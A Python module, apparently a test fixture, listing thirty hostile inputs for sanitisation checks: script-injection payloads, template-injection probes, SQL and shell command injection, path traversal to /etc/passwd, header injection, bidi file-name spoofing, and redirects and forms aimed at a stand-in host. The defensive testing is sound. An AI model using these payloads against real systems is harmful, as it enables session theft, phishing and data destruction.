"""Thirty texts that want to be more than texts."""

from __future__ import annotations

from typing import Final

RUN: Final = "window.pwned=1"

HOSTILE: Final = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror={RUN}>',
    f"' onmouseover='{RUN}' x='",
    f'" autofocus onfocus="{RUN}" x="',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<iframe src=javascript:{RUN}>",
    f"javascript:{RUN}",
    f"<a href=javascript:{RUN}>x</a>",
    f"<details open ontoggle={RUN}>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"<style>@import '//evil.example/x';</style><b style=color:red onclick={RUN}>",
    "<link rel=stylesheet href=//evil.example/x.css><base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button>Sign in</button>",
    f"<div hx-get=/sign-out hx-trigger=load hx-on:load={RUN}>",
    "{{ 7*7 }}{% raw %}${7*7}#{7*7}<%= 7*7 %>",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "\u202eevil\u2066 txt.exe\u2069\u202c",
    "nul\x00 bell\x07 esc\x1b[31mred\x1b[0m del\x7f",
    "line\u2028separator\u2029paragraph\r\nSet-Cookie: x=1",
    "&lt;script&gt;&#x3c;script>&amp;amp;",
    "\ufeff\u200b\u200d\U000e0041 Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307" * 3,
    "A" * 20_000,
    "' OR 1=1; DROP TABLE letters; -- `id` $(id) ../../etc/passwd %00 %s %n",
)
assert len(HOSTILE) == 30
